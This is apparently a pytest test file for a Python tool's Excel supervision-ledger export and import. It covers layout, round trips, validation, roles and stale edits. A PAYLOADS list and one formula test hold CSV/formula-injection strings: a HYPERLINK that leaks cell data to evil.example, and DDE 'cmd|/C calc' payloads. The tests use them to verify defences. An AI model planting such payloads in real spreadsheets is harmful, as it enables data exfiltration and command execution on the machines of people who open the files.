"""The Excel 台账 both ways, on SQLite and PostgreSQL: a printable sheet, a round trip that
keeps edits and survives a rebuild, and bad files refused whole with one line."""

import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from pgdash.errors import PgdashError
from pgdash.supervision import auth, excel, ledger
from pgdash.supervision.ledger import PlanTask

PLAN = [
    PlanTask("t01-001", 1, 1, "（一）", "logistics", "建设物流基地"),
    PlanTask("t01-002", 2, 1, "（一）", "logistics", "完成道路大修8条"),
    PlanTask("t02-001", 3, 2, "（二）", "ecology", "抓好生态林抚育3万亩"),
]
ON = date(2026, 7, 2)
HEADER = ["任务编号", "序号", "板块", "任务", "牵头单位", "配合单位", "责任人", "完成时限"]
HEADER += ["进度(%)", "状态", "进展情况", "备注", "更新时间", "亮灯"]


@pytest.fixture
def admin(ledger_url):
    auth.add_user("wang", "admin", "correct horse battery", ledger_url)
    auth.add_user("zhao", "editor", "correct horse battery", ledger_url)
    ledger.sync(PLAN, ledger_url)
    return "wang"


def sheet(url, on=ON):
    wb = load_workbook(io.BytesIO(excel.export_bytes(PLAN, on, url)))
    return wb, wb.active


def save(wb, path):
    wb.save(path)
    return path


def snapshot(url):
    return [
        (r.task_id, r.lead_unit, r.partner_units, r.responsible, r.deadline, r.progress, r.status)
        for r in ledger.rows(PLAN, ON, url)
    ] + [len(ledger.history(t.task_id, url)) for t in PLAN]


def test_the_sheet_is_one_an_office_would_print(admin, ledger_url):
    ledger.save("t01-002", 1, {"deadline": "2026-12-31", "progress": 10}, "wang", ledger_url)
    _, ws = sheet(ledger_url)
    assert ws.title == "督办台账"
    assert [c.value for c in ws[3]] == HEADER
    assert ws.freeze_panes == "B4"
    assert ws.column_dimensions["D"].width >= 30
    assert ws.print_title_rows == "$3:$3" and ws.page_setup.orientation == "landscape"
    row = [c.value for c in ws[5]]
    assert (row[0], row[1], row[2], row[8], row[9]) == ("t01-002", 2, "现代物流", 10, "未启动")
    assert isinstance(ws["H5"].value, datetime) and ws["H5"].number_format == "yyyy-mm-dd"
    assert ws["N5"].value == "红灯"  # 10 % against a pace of 50 %
    validations = {str(v.sqref): v for v in ws.data_validations.dataValidation}
    status = next(v for ref, v in validations.items() if ref.startswith("J4"))
    assert status.formula1 == '"未启动,推进中,已完成,滞后,调整"'


def test_round_trip_keeps_edits_and_records_the_user(admin, ledger_url, tmp_path):
    wb, ws = sheet(ledger_url)
    ws["E4"], ws["F4"], ws["G4"] = "区商务局", "区发改委、区交通局", "李四"
    ws["H4"], ws["I4"], ws["J4"] = datetime(2026, 9, 30), 35, "推进中"
    ws["K4"] = "已完成11个地块土地整理 <b>x</b>"
    ws["J6"] = "已完成"
    assert excel.import_file(save(wb, tmp_path / "a.xlsx"), "wang", PLAN, url=ledger_url) == 2
    rows = {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}
    first = rows["t01-001"]
    assert (first.lead_unit, first.partner_units, first.responsible) == (
        "区商务局",
        "区发改委、区交通局",
        "李四",
    )
    assert (first.deadline, first.progress, first.status) == (date(2026, 9, 30), 35, "in_progress")
    assert first.note.text == "已完成11个地块土地整理 <b>x</b>" and first.note.author == "wang"
    assert rows["t02-001"].status == "done"
    history = ledger.history("t01-001", ledger_url)
    assert {h.via for h in history} == {"import"} and {h.user_name for h in history} == {"wang"}
    # exported again, it reads back the same and importing it changes nothing
    wb, ws = sheet(ledger_url)
    assert [c.value for c in ws[4]][4:11] == [
        "区商务局",
        "区发改委、区交通局",
        "李四",
        datetime(2026, 9, 30),
        35,
        "推进中",
        "已完成11个地块土地整理 <b>x</b>",
    ]
    before = snapshot(ledger_url)
    assert excel.import_file(save(wb, tmp_path / "b.xlsx"), "wang", PLAN, url=ledger_url) == 0
    assert snapshot(ledger_url) == before


def _edit(ws, cell, value):
    ws[cell] = value


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda ws: _edit(ws, "A5", "t99-999"),
            "row 5, column 任务编号 (A): t99-999 is not a task",
        ),
        (
            lambda ws: _edit(ws, "A5", "t01-001"),
            "row 5, column 任务编号 (A): t01-001 is also on row 4",
        ),
        (lambda ws: _edit(ws, "J6", "完成了"), "row 6, column 状态 (J): “完成了” is not a status"),
        (
            lambda ws: _edit(ws, "H4", "2026-02-30"),
            "row 4, column 完成时限 (H): “2026-02-30” is not",
        ),
        (lambda ws: _edit(ws, "I5", 130), "row 5, column 进度(%) (I): 130 is outside 0–100"),
        (lambda ws: _edit(ws, "I5", "大半"), "row 5, column 进度(%) (I): “大半” is not a number"),
        (lambda ws: _edit(ws, "G3", "负责人"), "no header row with the column(s) 责任人"),
    ],
)
def test_a_bad_file_is_refused_whole_with_one_line(admin, ledger_url, tmp_path, edit, message):
    wb, ws = sheet(ledger_url)
    ws["E4"] = "区商务局"  # a good change on an earlier row: it must not be applied either
    edit(ws)
    before = snapshot(ledger_url)
    with pytest.raises(PgdashError) as refused:
        excel.import_file(save(wb, tmp_path / "bad.xlsx"), "wang", PLAN, url=ledger_url)
    assert message in str(refused.value) and "\n" not in str(refused.value)
    assert str(refused.value).startswith(str(tmp_path / "bad.xlsx"))
    assert snapshot(ledger_url) == before


def test_not_a_workbook_and_the_wrong_role_are_refused(admin, ledger_url, tmp_path):
    junk = tmp_path / "junk.xlsx"
    junk.write_text("not a workbook")
    with pytest.raises(PgdashError, match="cannot be read as an Excel workbook"):
        excel.import_file(junk, "wang", PLAN, url=ledger_url)
    wb, _ = sheet(ledger_url)
    with pytest.raises(PgdashError, match="zhao is an editor; this needs the role admin"):
        excel.import_file(save(wb, tmp_path / "a.xlsx"), "zhao", PLAN, url=ledger_url)
    with pytest.raises(PgdashError, match="no active account named 'nobody'"):
        excel.import_file(save(wb, tmp_path / "a.xlsx"), "nobody", PLAN, url=ledger_url)


def test_a_sheet_older_than_a_change_does_not_overwrite_it(admin, ledger_url, tmp_path):
    wb, ws = sheet(ledger_url)  # exported before zhao's change
    ledger.save("t01-002", 1, {"lead_unit": "区交通局"}, "zhao", ledger_url)
    ws["E5"] = "区公路分局"
    before = snapshot(ledger_url)
    with pytest.raises(PgdashError, match=r"row 5 .*牵头单位 was changed by zhao"):
        excel.import_file(save(wb, tmp_path / "old.xlsx"), "wang", PLAN, url=ledger_url)
    assert snapshot(ledger_url) == before
    # a field zhao did not touch can still be imported from the same sheet
    wb2 = load_workbook(tmp_path / "old.xlsx")
    ws2 = wb2.active
    ws2["E5"] = "区交通局"
    ws2["G5"] = "赵六"
    assert excel.import_file(save(wb2, tmp_path / "old2.xlsx"), "wang", PLAN, url=ledger_url) == 1
    row = {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}["t01-002"]
    assert (row.lead_unit, row.responsible) == ("区交通局", "赵六")


def test_the_commands_round_trip_through_a_rebuild(ledger_url, tmp_path, capsys, monkeypatch):
    """pgdash supervise export → edit → import, pgdash build, export again: the edits stay;
    a bad sheet is refused with one line and exit status 2."""
    import sys

    from pgdash.cli import main

    data = tmp_path / "data"
    base = ["--data", str(data)]
    assert main([*base, "build"]) == 0
    monkeypatch.setattr(sys, "stdin", io.StringIO("admin password 1\n"))
    assert main([*base, "users", "add", "wang", "--role", "admin"]) == 0
    out = tmp_path / "台账.xlsx"
    assert main([*base, "supervise", "export", "--out", str(out), "--date", "2026-07-02"]) == 0
    wb = load_workbook(out)
    ws = wb.active
    assert ws.max_row == 188 and ws["A4"].value == "t00-001"
    ws["E4"], ws["H4"], ws["I4"], ws["J4"] = "区发改委", "2026-12-31", 10, "推进中"
    wb.save(out)
    # the changes are recorded under wang only with wang's password
    monkeypatch.setattr(sys, "stdin", io.StringIO("not the password\n"))
    assert main([*base, "supervise", "import", str(out), "--user", "wang"]) == 2
    assert "wrong user name or password" in capsys.readouterr().err
    # (nothing was applied: the import below still finds the one changed task)
    monkeypatch.setattr(sys, "stdin", io.StringIO("admin password 1\n"))
    assert main([*base, "supervise", "import", str(out), "--user", "wang"]) == 0
    assert "1 task(s) changed, recorded under wang" in capsys.readouterr().out
    assert main([*base, "build"]) == 0
    again = tmp_path / "again.xlsx"
    assert main([*base, "supervise", "export", "--out", str(again), "--date", "2026-07-02"]) == 0
    row = [c.value for c in load_workbook(again).active[4]]
    assert row[4] == "区发改委" and row[7] == datetime(2026, 12, 31) and row[8:10] == [10, "推进中"]
    assert row[13] == "红灯"  # 10 % against an expected 50 %
    capsys.readouterr()
    ws["I7"] = 150
    wb.save(out)
    monkeypatch.setattr(sys, "stdin", io.StringIO("admin password 1\n"))
    assert main([*base, "supervise", "import", str(out), "--user", "wang"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "row 7, column 进度(%) (I): 150 is outside 0–100" in err
    assert "Traceback" not in err


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A4,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_typed_text_leaves_as_text_and_comes_back_unchanged(admin, ledger_url, tmp_path, payload):
    ledger.save("t01-001", 1, {"lead_unit": payload.strip()[:200]}, "wang", ledger_url)
    ledger.add_note("t01-001", ON, payload, "wang", ledger_url)
    wb, ws = sheet(ledger_url)
    for ref in ("E4", "K4"):
        assert ws[ref].data_type == "s", ref  # a string cell is never evaluated
        assert ws[ref].value.startswith(payload.strip()[:1])
        assert ws[ref].quotePrefix  # and Excel keeps it text when the cell is edited
    before = snapshot(ledger_url)
    # re-importing the file as downloaded changes nothing and erases nothing
    assert excel.import_file(save(wb, tmp_path / "back.xlsx"), "wang", PLAN, url=ledger_url) == 0
    assert snapshot(ledger_url) == before
    row = {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}["t01-001"]
    assert row.lead_unit == payload.strip()[:200] and row.note.text == payload.strip()


@pytest.mark.parametrize("ref", ["K5", "E4", "A1"])
def test_a_formula_in_an_imported_sheet_is_refused_with_its_cell(admin, ledger_url, tmp_path, ref):
    wb, ws = sheet(ledger_url)
    ws[ref] = '=HYPERLINK("http://evil.example","x")'
    assert ws[ref].data_type == "f"
    before = snapshot(ledger_url)
    with pytest.raises(PgdashError) as refused:
        excel.import_file(save(wb, tmp_path / "f.xlsx"), "wang", PLAN, url=ledger_url)
    assert f"row {ref[1:]}, column {ref[0]}: holds a formula" in str(refused.value)
    assert snapshot(ledger_url) == before


def test_a_blank_cell_leaves_the_field_as_it_is(admin, ledger_url, tmp_path):
    values = {"lead_unit": "区发改委", "deadline": "2026-12-31", "progress": 65}
    ledger.save("t01-001", 1, {**values, "status": "推进中"}, "wang", ledger_url)
    wb, ws = sheet(ledger_url)
    for ref in ("E4", "H4", "I4", "J4"):
        ws[ref] = None
    ws["I5"] = ""  # an empty string, as some programs write
    assert excel.import_file(save(wb, tmp_path / "blank.xlsx"), "wang", PLAN, url=ledger_url) == 0
    row = {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}["t01-001"]
    assert (row.lead_unit, row.deadline, row.progress, row.status) == (
        "区发改委",
        date(2026, 12, 31),
        65,
        "in_progress",
    )


@pytest.mark.parametrize(
    ("value", "number_format", "stored", "message"),
    [
        (65.5, "General", None, "65.5 is not a whole percentage; write 65 or 66"),
        ("65.5%", "General", None, "65.5 is not a whole percentage"),
        (0.65, "0%", 65, None),  # a percentage cell holds the share
        (40.0, "General", 40, None),
    ],
)
def test_progress_decimals_are_refused_or_kept_never_rounded(
    admin, ledger_url, tmp_path, value, number_format, stored, message
):
    wb, ws = sheet(ledger_url)
    ws["I4"] = value
    ws["I4"].number_format = number_format
    path = save(wb, tmp_path / "p.xlsx")
    if message:
        with pytest.raises(PgdashError, match=message.replace("(", r"\(")):
            excel.import_file(path, "wang", PLAN, url=ledger_url)
        return
    excel.import_file(path, "wang", PLAN, url=ledger_url)
    assert {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}["t01-001"].progress == stored


@pytest.mark.parametrize("extra_title_rows", [-2, 0, 3])
def test_title_rows_above_the_header_are_understood(admin, ledger_url, tmp_path, extra_title_rows):
    wb, ws = sheet(ledger_url)
    ws.unmerge_cells("A1:N1")
    ws.unmerge_cells("A2:N2")
    if extra_title_rows < 0:
        ws.delete_rows(1, -extra_title_rows)
    elif extra_title_rows > 0:
        ws.insert_rows(1, extra_title_rows)
        for i in range(1, extra_title_rows + 1):
            ws.cell(i, 1).value = f"区政府督查室 第{i}行说明"
    header = 3 + extra_title_rows
    ws.cell(header + 1, 5).value = "区商务局"
    assert excel.import_file(save(wb, tmp_path / "t.xlsx"), "wang", PLAN, url=ledger_url) == 1
    assert ledger.rows(PLAN, ON, ledger_url)[0].lead_unit == "区商务局"


def test_oversized_files_are_refused_before_they_are_read(admin, ledger_url, tmp_path):
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"PK" + b"\0" * (excel.MAX_BYTES + 1))
    with pytest.raises(PgdashError, match="larger than 10 MB"):
        excel.import_file(big, "wang", PLAN, url=ledger_url)
    wb, ws = sheet(ledger_url)
    for i in range(excel.MAX_ROWS + 20):
        ws.cell(10 + i, 1).value = "t01-001"
    with pytest.raises(PgdashError, match="rows; a 台账 has one row per task"):
        excel.import_file(save(wb, tmp_path / "long.xlsx"), "wang", PLAN, url=ledger_url)


def test_the_sheet_prints_readably(admin, ledger_url):
    long_note = "已完成11个地块土地整理，正在推进二期工程前期手续办理，" * 4
    ledger.add_note("t01-001", ON, long_note, "wang", ledger_url)
    _, ws = sheet(ledger_url)
    assert ws["A1"].value == "重点任务督办台账" and ws["A1"].font.sz >= 14
    assert "截至日期：2026-07-02" in ws["A2"].value and "亮灯规则" in ws["A2"].value
    body = [ws.cell(r, c) for r in range(3, ws.max_row + 1) for c in range(1, 15)]
    assert min(cell.font.sz for cell in body) >= 9 and {cell.font.name for cell in body} == {"宋体"}
    # one page wide, and the columns are narrow enough that fitting shrinks 10 pt by ≤ 10 %
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert sum(ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMN") <= 145
    # the long note's row is tall enough for its wrapped lines
    lines = excel._lines(long_note, 19)
    assert lines >= 4 and ws.row_dimensions[4].height >= lines * excel.LINE_PT
    assert ws.print_title_rows == "$3:$3" and "&P" in ws.oddFooter.center.text


def test_a_task_nobody_reported_on_is_blank_not_zero(admin, ledger_url, tmp_path):
    _, ws = sheet(ledger_url)
    assert (ws["I4"].value, ws["J4"].value) == (None, None)  # not 0 %, not 未启动
    wb, ws = sheet(ledger_url)
    assert excel.import_file(save(wb, tmp_path / "same.xlsx"), "wang", PLAN, url=ledger_url) == 0
    assert not ledger.rows(PLAN, ON, ledger_url)[0].is_reported


def test_remarks_go_out_and_come_back_and_a_blank_keeps_them(admin, ledger_url, tmp_path):
    ledger.save("t01-001", 1, {"remarks": "区领导已批示"}, "wang", ledger_url)
    wb, ws = sheet(ledger_url)
    assert ws["L3"].value == "备注" and ws["L4"].value == "区领导已批示"
    ws["L5"] = "需市级协调"
    ws["L4"] = None  # blank: unchanged
    assert excel.import_file(save(wb, tmp_path / "r.xlsx"), "wang", PLAN, url=ledger_url) == 1
    rows = {r.task_id: r for r in ledger.rows(PLAN, ON, ledger_url)}
    assert (rows["t01-001"].remarks, rows["t01-002"].remarks) == ("区领导已批示", "需市级协调")
    assert ledger.history("t01-002", ledger_url)[-1].field == "remarks"
